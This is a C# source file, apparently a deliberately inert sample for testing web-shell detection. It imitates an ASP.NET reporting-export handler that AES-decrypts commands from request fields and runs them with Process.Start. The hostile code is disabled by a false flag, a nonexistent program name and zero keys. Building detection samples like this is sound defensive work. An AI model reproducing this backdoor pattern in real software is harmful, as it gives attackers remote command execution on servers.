// Behaviour sample 7 (managed IHttpHandler + IHttpHandlerFactory): AES
// command decryption and execution.
//
// Imitates a handler mapped to an innocuous path: ProcessRequest takes the
// form field "rpt_blob", base64-decodes it, decrypts it with AES
// (Aes.Create + CreateDecryptor + ICryptoTransform.TransformFinalBlock),
// and runs the plaintext with Process.Start(ProcessStartInfo), writing the
// redirected output with Response.Write. The factory's GetHandler decrypts
// a query-string value with RijndaelManaged + CryptoStream and hands back
// the handler.
// Varies: handler role (no module), typed Process.Start, crypto instead of
// base64 only, names from a reporting product.
//
// Inert: everything suspicious is inside `if (Inert.Off)` (static readonly,
// false at run time); the program name does not exist; keys are zero bytes.
using System;
using System.Diagnostics;
using System.IO;
using System.Security.Cryptography;
using System.Text;
using System.Web;

namespace Northwind.Reporting.Export
{
    internal static class Inert
    {
        internal static readonly bool Off = ComputeOff();
        static bool ComputeOff() { return false; }
    }

    public class ExportHandler : IHttpHandler
    {
        private static readonly byte[] Key = new byte[16];
        private static readonly byte[] Iv = new byte[16];

        public bool IsReusable { get { return true; } }

        public void ProcessRequest(HttpContext context)
        {
            if (Inert.Off)
            {
                byte[] enc = Convert.FromBase64String(context.Request.Form["rpt_blob"]);
                string cmd;
                using (Aes aes = Aes.Create())
                {
                    aes.Key = Key;
                    aes.IV = Iv;
                    ICryptoTransform dec = aes.CreateDecryptor();
                    cmd = Encoding.UTF8.GetString(dec.TransformFinalBlock(enc, 0, enc.Length));
                }
                ProcessStartInfo psi = new ProcessStartInfo("iisweep-inert-never-runs.exe", cmd);
                psi.UseShellExecute = false;
                psi.RedirectStandardOutput = true;
                psi.CreateNoWindow = true;
                Process p = Process.Start(psi);
                context.Response.Write(p.StandardOutput.ReadToEnd());
                return;
            }
            context.Response.StatusCode = 404;
        }
    }

    public class ExportHandlerFactory : IHttpHandlerFactory
    {
        public IHttpHandler GetHandler(HttpContext context, string requestType, string url,
                                       string pathTranslated)
        {
            if (Inert.Off)
            {
                byte[] enc = Convert.FromBase64String(context.Request.QueryString["v"]);
                using (RijndaelManaged r = new RijndaelManaged())
                using (MemoryStream ms = new MemoryStream(enc))
                using (CryptoStream cs = new CryptoStream(ms, r.CreateDecryptor(new byte[16], new byte[16]),
                                                          CryptoStreamMode.Read))
                using (StreamReader sr = new StreamReader(cs))
                {
                    context.Items["rpt"] = sr.ReadToEnd();
                }
            }
            return new ExportHandler();
        }

        public void ReleaseHandler(IHttpHandler handler)
        {
        }
    }
}
